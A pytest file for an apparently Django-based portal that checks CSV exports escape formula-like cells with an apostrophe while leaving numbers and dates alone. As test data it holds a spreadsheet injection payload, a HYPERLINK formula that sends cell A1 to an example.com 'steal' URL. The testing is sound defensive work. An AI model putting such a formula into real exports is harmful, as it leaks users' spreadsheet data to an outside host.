"""Every spreadsheet download shows typed text as text: a cell that would run as a formula in
Excel, LibreOffice or Sheets is prefixed with an apostrophe; numbers and dates stay as they are."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from portal.exports import csv_response, safe_cell
from tests.directory.factories import OrganisationFactory
from tests.timebank.factories import AccountFactory

FORMULA = '=HYPERLINK("http://example.com/steal?"&A1,"Click")'


@pytest.mark.parametrize(
    "value", ["=1+1", "+44 23 9283", "-x", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＋1", "＠x"]
)
def test_text_that_would_run_as_a_formula_is_shown_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [-5, Decimal("-12.50"), 0, 2.5, True, datetime.date(2026, 4, 1), None],
)
def test_numbers_dates_and_empty_cells_stay_as_they_are(value):
    assert safe_cell(value) is value


def test_ordinary_text_is_unchanged_and_objects_become_text():
    assert safe_cell("Faster payment") == "Faster payment"
    assert safe_cell(datetime.UTC) == "UTC"


def _csv_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_admin_organisation_export_escapes_names(client, make_role_user):
    OrganisationFactory(name=FORMULA)
    client.force_login(make_role_user("Moderators"))
    rows = _csv_rows(
        client.get(reverse("wagtailsnippets_directory_organisation:list") + "?export=csv")
    )
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + FORMULA]


def test_admin_time_bank_account_export_escapes_names_and_keeps_balances(client, make_role_user):
    AccountFactory(display_name=FORMULA)
    client.force_login(make_role_user("Brokers"))
    rows = _csv_rows(client.get(reverse("timebank_accounts:index") + "?export=csv"))
    header, *body = rows
    (row,) = [row for row in body if row[0].endswith(FORMULA)]
    assert row[0] == "'" + FORMULA
    assert row[header.index("Balance")] == "0"


def test_a_csv_download_makes_every_cell_safe_and_keeps_numbers():
    response = csv_response("report.csv", [["Name", "Hours"], [FORMULA, Decimal("-0.50")]])
    assert response["Content-Disposition"] == 'attachment; filename="report.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert _csv_rows(response) == [["Name", "Hours"], ["'" + FORMULA, "-0.50"]]


def test_a_streamed_csv_download_starts_with_a_byte_order_mark_for_excel():
    rows = ([f"-row {number}", number] for number in range(2))
    body = b"".join(csv_response("big.csv", rows, stream=True).streaming_content)
    assert body.startswith("\ufeff".encode())
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
        ["'-row 0", "0"],
        ["'-row 1", "1"],
    ]
